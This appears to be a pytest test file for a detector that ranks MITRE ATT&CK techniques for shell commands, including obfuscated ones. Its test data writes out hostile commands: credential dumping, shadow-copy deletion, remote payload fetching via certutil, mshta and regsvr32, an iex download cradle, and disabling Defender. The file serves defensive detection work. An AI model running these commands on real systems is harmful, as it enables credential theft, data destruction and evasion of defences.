"""Commands to techniques: the right one is among the first three, despite shell obfuscation."""

from __future__ import annotations

import base64
import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from svc.assistant.knowledge.prefilter import needed_words
from svc.assistant.skills.script.techniques import MAX_COMMAND_CHARS, plain_command, rank_techniques, table

SHOWN = [
    ("T1003.001", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\x.dmp full"),
    ("T1003.002", "reg save HKEY_LOCAL_MACHINE\\SAM c:\\t\\s"),
    ("T1003.003", 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'),
    ("T1003.008", "sudo cat /etc/shadow"),
    ("T1018", "for i in $(seq 1 254); do ping -c 1 10.1.1.$i; done"),
    ("T1021.006", "winrs -r:HOST01 whoami"),
    ("T1047", 'wmic /node:10.0.0.5 process call create "cmd /c calc"'),
    ("T1053.003", "(crontab -l; echo '* * * * * /tmp/.x') | crontab -"),
    ("T1053.005", "schtasks /create /tn Updater /tr C:\\x.exe /sc onlogon"),
    ("T1070.003", "unset HISTFILE; history -c"),
    ("T1098.004", "echo 'ssh-ed25519 AAAA me' >> ~/.ssh/authorized_keys"),
    ("T1105", "certutil -urlcache -split -f http://example.test/a.exe a.exe"),
    ("T1136.001", "net user helpdesk P4ss! /add"),
    ("T1136.003", "aws iam create-user --user-name bob"),
    ("T1218.005", "mshta http://example.test/a.hta"),
    ("T1218.010", "regsvr32 /s /n /u /i:http://example.test/a.sct scrobj.dll"),
    ("T1485", "aws s3 rb s3://bucket --force"),
    ("T1490", "vssadmin delete shadows /all /quiet"),
    ("T1543.003", "sc create Svc binPath= C:\\x.exe start= auto"),
    ("T1547.001", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\x.exe"),
    ("T1547.006", "insmod /tmp/r.ko"),
    ("T1548.001", "chmod u+s /tmp/bash"),
    ("T1552.005", "curl http://169.254.169.254/latest/meta-data/iam/"),
    ("T1555.001", "security dump-keychain -d"),
    ("T1558.003", "Rubeus.exe kerberoast /outfile:h.txt"),
    ("T1611", "docker run -v /:/mnt --rm -it alpine chroot /mnt sh"),
    ("T1685", "Set-MpPreference -DisableRealtimeMonitoring $true"),
    ("T1685.005", "wevtutil cl Security"),
    ("T1686", "netsh advfirewall set allprofiles state off"),
]


def first_three(command: str) -> list[str]:
    return [technique for technique, _, _ in rank_techniques(command)[:3]]


@pytest.mark.parametrize(("technique", "command"), SHOWN, ids=[technique for technique, _ in SHOWN])
def test_the_technique_is_among_the_first_three(technique: str, command: str):
    assert technique in first_three(command)


@pytest.mark.parametrize(
    "command",
    [
        "v^s^s^a^d^m^i^n delete shadows /all",
        'vssadmin.exe  "delete"   shadows',
        "C:\\Windows\\System32\\VSSADMIN.EXE Delete Shadows /All",
        "vssadmin ^\r\n  delete shadows",
        "& ('vssad'+'min') delete shadows",
        "powershell -enc " + base64.b64encode("vssadmin delete shadows /all".encode("utf-16-le")).decode(),
    ],
    ids=["carets", "quotes", "path and case", "continued", "concatenated", "encoded"],
)
def test_characters_ignored_by_a_shell_hide_nothing(command: str):
    assert "T1490" in first_three(command)


@pytest.mark.parametrize("command", ["", "   ", "hello world", "2 + 2"])
def test_words_without_a_command_show_nothing(command: str):
    assert rank_techniques(command) == []


def test_scores_fall_and_each_names_its_words():
    ranked = rank_techniques("schtasks /create /tn a /tr 'powershell -w hidden -c iex(iwr http://a.test)'")
    assert [score for _, score, _ in ranked] == sorted((score for _, score, _ in ranked), reverse=True)
    assert all(words and words in plain_command(words) for _, _, words in ranked)


def test_every_pattern_is_plain_and_its_kind_has_a_severity():
    for behaviour in table().behaviours:
        assert behaviour.does in table().severities
        assert re.fullmatch(r"T\d{4}(?:\.\d{3})?", behaviour.id)
        for pattern in (*behaviour.strong, *behaviour.medium, *behaviour.weak):
            assert pattern == pattern.lower()
            assert not re.search(pattern, "")


@pytest.mark.parametrize(
    ("pattern", "words"),
    [
        (r"\breg save\b", ("reg save",)),
        (r"abc|defg", ("abc", "defg")),
        (r"(?:abc|de)fghi", ("fghi",)),
        (r"(?:alpha|beta)\d", ("alpha", "beta")),
        (r"colou?rs", ("colo",)),
        (r"ab+cdef", ("cdef",)),
        (r"[abc]\d+", ()),
        (r"abcd|\d", ()),
        (r"(?:word)?x", ()),
        (r"a\.bcd(?!efgh)", ("a.bcd",)),
    ],
)
def test_the_words_that_a_pattern_needs(pattern: str, words: tuple[str, ...]):
    assert needed_words(pattern) == words


@pytest.mark.parametrize(
    "command",
    ["for /r %i " * 5_000, "echo " + "a" * 100_000, "cp /bin/" * 5_000, "/tmp/. " * 9_000, "copy \\\\a\\c$ " * 3_000],
    ids=["for", "one word", "cp", "dots", "copy"],
)
def test_a_huge_command_is_bounded(command: str):
    started = time.process_time()
    rank_techniques(command)
    assert time.process_time() - started < 3
    assert len(plain_command(command)) <= MAX_COMMAND_CHARS


@settings(max_examples=30, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_read(text: str):
    rank_techniques(text)
